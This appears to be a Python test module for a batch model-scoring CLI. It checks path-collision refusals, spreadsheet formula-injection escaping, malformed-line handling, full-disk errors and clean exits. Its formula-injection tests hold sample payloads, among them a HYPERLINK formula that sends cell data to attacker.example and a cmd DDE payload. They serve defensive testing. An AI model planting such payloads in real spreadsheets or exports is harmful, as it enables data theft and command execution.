"""The batch scorer under misuse and failure: paths that collide, cells that are
spreadsheet formulas, files of malformed lines, a full disk, and an orderly exit.

The session's registered STAMP champion (tests/support/registry.py) serves the module.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from personalize.batch import ScoringError, checking, output, scoring
from personalize.cli import app
from personalize.data.simulate import simulate
from personalize.data.table import write_table
from personalize.model import PersonalizeModel
from support.registry import TrainedRegistry

pytestmark = pytest.mark.slow  # scores with the session's trained registry


@pytest.fixture(scope="module")
def registered(trained_registry: TrainedRegistry) -> scoring.ResolvedModel:
    return scoring.resolve_model(trained_registry.champion(), trained_registry.uri)


def referrals(model: PersonalizeModel, n: int, seed: int) -> pd.DataFrame:
    return simulate("stamp", n, seed).cohort[checking.required_columns(model.pipeline)]


def model_args(registered: scoring.ResolvedModel, trained_registry: TrainedRegistry) -> list[str]:
    return [
        "--model",
        f"models:/{registered.name}/{registered.version}",
        "--tracking-uri",
        trained_registry.uri,
    ]


def cli(*args: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    """`personalize score ...` in its own process, as an analyst runs it."""
    return subprocess.run(
        [sys.executable, "-m", "personalize.cli", "score", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def snapshot(directory: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(directory.iterdir()) if p.is_file()}


def error_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("error:")]


# ----------------------------------------------------------------- colliding paths


def _collide(
    tmp_path: Path, how: str, frame: pd.DataFrame
) -> tuple[Path, list[str], tuple[str, str]]:
    """Write the input and lay out `how`; return the input, the score arguments after
    it, and the two paths the refusal must name."""
    src = tmp_path / {
        "parquet input as output": "in.parquet",
        "default rejects name is the input": "o.rejects.csv",
    }.get(how, "in.csv")
    write_table(frame, src)
    if how == "input as output":
        return src, ["--out", str(src)], (str(src), str(src))
    if how == "parquet input as output":
        return src, ["--out", str(src)], (str(src), str(src))
    if how == "output as rejects":
        out = tmp_path / "o.csv"
        return src, ["--out", str(out), "--rejects", str(out)], (str(out), str(out))
    if how == "input as rejects":
        out = tmp_path / "o.csv"
        return src, ["--out", str(out), "--rejects", str(src)], (str(src), str(src))
    if how == "symlink to the input":
        link = tmp_path / "link.csv"
        link.symlink_to(src)
        return src, ["--out", str(link)], (str(src), str(link))
    if how == "hard link of the input":
        link = tmp_path / "hard.csv"
        os.link(src, link)
        return src, ["--out", str(link)], (str(src), str(link))
    if how == "the input through ..":
        (tmp_path / "sub").mkdir()
        out = tmp_path / "sub" / ".." / "in.csv"
        return src, ["--out", str(out)], (str(src), str(out))
    if how == "default rejects name is the input":
        return src, ["--out", str(tmp_path / "o.csv")], (str(src), str(src))
    raise AssertionError(how)


COLLISIONS = [
    "input as output",
    "parquet input as output",
    "output as rejects",
    "input as rejects",
    "symlink to the input",
    "hard link of the input",
    "the input through ..",
    "default rejects name is the input",
]


@pytest.mark.parametrize("how", COLLISIONS)
def test_colliding_paths_are_refused_before_anything_is_touched(
    registered: scoring.ResolvedModel,
    trained_registry: TrainedRegistry,
    tmp_path: Path,
    how: str,
) -> None:
    frame = referrals(registered.model, 40, 1).astype(str)
    frame.loc[3, "age"] = "abc"  # a reject, so a rejects file would have rows
    src, args, named = _collide(tmp_path, how, frame)
    before = snapshot(tmp_path)
    result = CliRunner().invoke(
        app, ["score", str(src), *args, *model_args(registered, trained_registry)]
    )
    assert result.exit_code == 1, result.output
    message = " ".join(error_lines(result.output))
    assert "same file" in message, result.output
    for path in named:
        assert path in message, (path, message)
    assert snapshot(tmp_path) == before  # nothing replaced, nothing created


def test_the_library_refuses_a_hard_link_a_fifo_and_a_directory(
    registered: scoring.ResolvedModel, tmp_path: Path
) -> None:
    write_table(referrals(registered.model, 20, 2), tmp_path / "in.csv")
    os.link(tmp_path / "in.csv", tmp_path / "again.csv")
    os.mkfifo(tmp_path / "pipe.csv")
    (tmp_path / "dir.csv").mkdir()
    before = snapshot(tmp_path)

    def score(out: str, rejects: str | None = None) -> None:
        scoring.score_file(
            registered.model,
            tmp_path / "in.csv",
            tmp_path / out,
            rejects_path=None if rejects is None else tmp_path / rejects,
            model_name=registered.name,
            model_version=registered.version,
        )

    with pytest.raises(ScoringError, match="same file"):
        score("o.csv", "again.csv")
    for target in ("pipe.csv", "dir.csv"):
        with pytest.raises(ScoringError, match="not a regular file"):
            score(target)
    assert snapshot(tmp_path) == before
    assert (tmp_path / "pipe.csv").is_fifo() and (tmp_path / "dir.csv").is_dir()


# ----------------------------------------------------------------- formula injection

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def test_neutralise_formulas_quotes_text_that_a_spreadsheet_would_run() -> None:
    import pyarrow as pa

    cells = [*FORMULAS, "\t=1+1", "\r=1+1", "\uff1dSUM(1)", "-1.5", "+3e2", "P-1", "", None]
    table = pa.table({"text": cells, "number": [-1.0] * len(cells)})
    out = output.neutralise_formulas(table).to_pydict()
    assert out["text"] == [
        *("'" + f for f in FORMULAS),
        "'\t=1+1",
        "'\r=1+1",
        "'\uff1dSUM(1)",
        "-1.5",  # plain numbers: a spreadsheet reads them as numbers
        "+3e2",
        "P-1",
        "",
        None,
    ]
    assert out["number"] == [-1.0] * len(cells)  # numeric columns are never touched


def test_csv_outputs_neutralise_formulas_and_parquet_keeps_raw_values(
    registered: scoring.ResolvedModel, tmp_path: Path
) -> None:
    frame = referrals(registered.model, 30, 3).astype(str)
    for i, formula in enumerate(FORMULAS):
        frame.loc[i, "participant_id"] = formula
    frame.loc[10, "participant_id"] = "-17"  # a plain number: a spreadsheet never runs it
    frame.loc[11, "sex"] = "=1+1"  # an unknown level: its value goes to the rejects
    frame.loc[11, "participant_id"] = "@rejected"
    write_table(frame, tmp_path / "in.csv")
    kwargs = {"model_name": registered.name, "model_version": registered.version}
    scoring.score_file(registered.model, tmp_path / "in.csv", tmp_path / "o.csv", **kwargs)
    scoring.score_file(registered.model, tmp_path / "in.csv", tmp_path / "o.parquet", **kwargs)

    with open(tmp_path / "o.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    ids = [r["participant_id"] for r in rows]
    for formula in FORMULAS:
        assert "'" + formula in ids, formula
    assert "-17" in ids
    for row in rows:  # no text cell a spreadsheet would run
        for value in row.values():
            assert not value or value[0] not in "=+@\t\r" or value.startswith("'"), value
    benefits = [float(r["benefit"]) for r in rows]
    assert min(benefits) < 0  # negative numbers are written as numbers, unescaped
    assert any(r["benefit"].startswith("-") for r in rows)
    with open(tmp_path / "o.rejects.csv", newline="") as fh:
        (reject,) = list(csv.DictReader(fh))
    assert reject["participant_id"] == "'@rejected" and reject["value"] == "'=1+1"

    raw = pd.read_parquet(tmp_path / "o.parquet")
    assert set(FORMULAS) <= set(raw["participant_id"])
    rejected = pd.read_parquet(tmp_path / "o.rejects.parquet")
    assert rejected["value"].tolist() == ["=1+1"]


# ----------------------------------------------------------------- malformed lines


def test_malformed_lines_are_reported_without_their_content(
    registered: scoring.ResolvedModel, tmp_path: Path
) -> None:
    frame = referrals(registered.model, 20, 4).astype(str)
    frame["note"] = "ok"  # an undeclared column: anything may be in it
    cols = list(frame.columns)
    with open(tmp_path / "in.csv", "w", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(cols)
        for i, row in enumerate(frame.itertuples(index=False)):
            writer.writerow(list(row))
            if i == 4:  # an unquoted comma in the note: one field too many
                fh.write(",".join([f"P-extra{i}", *list(row)[1:-1], "SECRET, home address"]))
                fh.write("\n")
            if i == 9:
                fh.write("P-short,1\n")
    summary = scoring.score_file(
        registered.model,
        tmp_path / "in.csv",
        tmp_path / "o.csv",
        model_name=registered.name,
        model_version=registered.version,
    )
    assert summary.rows_in == 22 and summary.rejected == 2
    text = (tmp_path / "o.rejects.csv").read_text()
    assert "SECRET" not in text and "address" not in text
    rejects = pd.read_csv(tmp_path / "o.rejects.csv", dtype=str)
    assert rejects["line"].tolist() == ["7", "13"]  # header is line 1
    assert rejects["participant_id"].tolist() == ["P-extra4", "P-short"]
    assert set(rejects["column"]) == {"(row)"}
    assert rejects["reason"].tolist() == [
        f"malformed CSV line (wrong number of fields: {len(cols) + 1} field(s), "
        f"the header has {len(cols)})",
        f"malformed CSV line (wrong number of fields: 2 field(s), the header has {len(cols)})",
    ]


def _bad_lines(path: Path, header: list[str], n: int) -> None:
    """A header, 50 good-looking lines, then n lines of one field too many."""
    pad = "x" * 80
    with open(path, "w") as fh:
        fh.write(",".join(header) + "\n")
        for i in range(n):
            fh.write(f"B{i}," + ",".join(["1"] * len(header)) + f",{pad}\n")


def test_memory_stays_bounded_with_a_file_of_malformed_lines(
    registered: scoring.ResolvedModel, trained_registry: TrainedRegistry, tmp_path: Path
) -> None:
    header = checking.required_columns(registered.model.pipeline)
    peaks = {}
    for n in (2_000, 300_000):  # 0.2 MB, then 37 MB of bad lines
        src = tmp_path / f"bad{n}.csv"
        _bad_lines(src, header, n)
        result = cli(
            str(src), "--out", str(tmp_path / f"o{n}.parquet"), "--json",
            *model_args(registered, trained_registry),
        )  # fmt: skip
        assert result.returncode == 0, result.stderr
        summary = json.loads(result.stdout.strip().splitlines()[-1])
        assert summary["rows_in"] == n and summary["rejected"] == n
        peaks[n] = summary["peak_rss_mib"]
        src.unlink()
    rejects = pd.read_parquet(tmp_path / "o300000.rejects.parquet")
    assert len(rejects) == 300_000 and rejects["line"].is_monotonic_increasing
    # holding the lines took ~0.7 KiB each (+210 MiB here); spilled as they come, what
    # remains is Arrow's own read-ahead of 8 MiB blocks (about +50 MiB, bounded)
    assert peaks[300_000] - peaks[2_000] < 120, peaks
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


# ----------------------------------------------------------------- a full disk


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A 1 MiB tmpfs: a real 'No space left on device' (needs root, as in CI)."""
    mount = tmp_path / "small-disk"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(mount)],
        capture_output=True,
        text=True,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", str(mount)], check=True)


@pytest.mark.parametrize("ext", ["csv", "parquet"])
def test_a_full_disk_is_one_clear_line_and_leaves_nothing(
    registered: scoring.ResolvedModel,
    trained_registry: TrainedRegistry,
    tmp_path: Path,
    small_disk: Path,
    ext: str,
) -> None:
    write_table(referrals(registered.model, 20_000, 5), tmp_path / "in.parquet")
    out = small_disk / f"scored.{ext}"
    result = cli(
        str(tmp_path / "in.parquet"), "--out", str(out), "--explain", "5",
        *model_args(registered, trained_registry),
    )  # fmt: skip
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    (line,) = error_lines(result.stderr)
    assert "No space left on device" in line and str(out) in line, line
    assert list(small_disk.iterdir()) == []  # no partial file, no temporary left


def test_an_unreadable_cell_mid_file_is_one_line_naming_the_input(
    registered: scoring.ResolvedModel, trained_registry: TrainedRegistry, tmp_path: Path
) -> None:
    frame = referrals(registered.model, 50, 7).astype(str)
    write_table(frame, tmp_path / "in.csv")
    data = (tmp_path / "in.csv").read_bytes().split(b"\n")
    data[6] = b"caf\xe9" + data[6]  # not UTF-8, in the id column
    (tmp_path / "in.csv").write_bytes(b"\n".join(data))
    result = CliRunner().invoke(
        app,
        [
            "score", str(tmp_path / "in.csv"), "--out", str(tmp_path / "o.csv"),
            *model_args(registered, trained_registry),
        ],
    )  # fmt: skip
    assert result.exit_code == 1, (result.output, result.exception)
    (line,) = error_lines(result.output)
    assert str(tmp_path / "in.csv") in line and "cannot read" in line and "UTF8" in line, line
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]


# ----------------------------------------------------------------- orderly exit


def test_the_scorer_exits_cleanly_run_after_run(
    registered: scoring.ResolvedModel, trained_registry: TrainedRegistry, tmp_path: Path
) -> None:
    frame = referrals(registered.model, 3000, 6).astype(str)
    write_table(frame, tmp_path / "in.csv")
    with open(tmp_path / "in.csv", "a") as fh:
        fh.write("P-short,1,2\n")  # the malformed-line handler is in play too
    for i in range(6):
        result = cli(
            str(tmp_path / "in.csv"), "--out", str(tmp_path / f"o{i}.csv"),
            *model_args(registered, trained_registry),
        )  # fmt: skip
        assert result.returncode == 0, (i, result.stderr)
        assert "terminate called" not in result.stderr
